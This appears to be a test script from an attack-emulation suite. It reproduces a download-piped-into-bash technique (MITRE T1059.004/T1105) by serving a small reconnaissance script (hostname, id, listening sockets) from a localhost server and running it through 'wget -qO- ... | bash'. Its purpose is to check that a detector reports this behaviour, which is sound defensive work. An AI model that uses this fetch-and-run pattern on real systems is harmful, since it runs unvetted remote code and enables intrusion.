#!/bin/bash
# vigil-emulation: attack
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1105 Ingress Tool Transfer
# tactic: execution, command-and-control
# what: `wget -qO- http://127.0.0.1:PORT/i | bash -s -- --quiet`: an installer-style script
#   from a web server the scenario runs, piped into bash with arguments; the script
#   collects `hostname`, `id` and the listening sockets.
# report: a download piped into bash: wget's output is the interpreter's stdin.
# expect: pipe|piped|download
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need wget

emul_tmpdir
printf 'hostname\nid\nss -tln | head -5\necho "args: $*"\n' >"$EMUL_DIR/i"
emul_server http --dir "$EMUL_DIR"
bash -c "wget -qO- http://127.0.0.1:$EMUL_PORT/i | bash -s -- --quiet"
